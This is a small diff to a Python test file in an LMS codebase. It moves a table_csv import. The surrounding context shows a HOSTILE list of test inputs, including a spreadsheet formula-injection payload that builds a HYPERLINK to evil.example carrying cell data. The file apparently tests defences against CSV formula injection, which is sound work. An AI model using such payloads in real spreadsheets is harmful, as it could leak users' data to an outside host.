@@ -5,10 +5,9 @@ import io
 
 import pytest
 
-from classroom.base.csv_tables import table_csv
 from lms.export import PlainText
 from lms.rosters import parser as rosters_parser
-from lms.spreadsheets import FORMULA, harmless, original
+from lms.spreadsheets import FORMULA, harmless, original, table_csv
 
 HOSTILE = [
     '=HYPERLINK("https://evil.example/?"&A1,"click")',
